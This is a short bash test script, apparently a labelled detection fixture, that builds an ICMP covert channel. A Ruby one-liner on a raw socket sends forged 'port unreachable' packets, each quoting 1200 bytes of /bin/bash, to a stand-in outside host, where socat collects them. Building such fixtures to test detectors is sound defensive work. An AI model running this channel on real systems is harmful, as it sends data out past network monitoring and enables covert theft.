#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel,covert-socket half=report tool=ruby far=out seconds=22 parts=dns
# Ruby says to somebody outside, by a raw socket, that ports cannot be reached, hundreds of times, and each time quotes 1200 bytes of a file.
if [ "$1" = out ]; then exec timeout 34 socat -u -b 4000 IP4-RECV:1,bind=203.0.113.66 "CREATE:$LAB/got"; fi
sleep 2; timeout 18 ruby -rsocket -e 's = Socket.new(:INET, :RAW, 1); to = Socket.sockaddr_in(0, "203.0.113.66")
File.open("/bin/bash", "rb") { |f| 200.times { d = [3, 3, 0, 0].pack("CCnN") + f.read(1200); sum = d.unpack("n*").sum; sum = (sum & 65535) + (sum >> 16) while sum > 65535; d[2, 2] = [~sum & 65535].pack("n"); s.send(d, 0, to); sleep 0.04 } }'
sleep 2; [ "$(stat -c %s "$LAB/got")" -gt 200000 ]
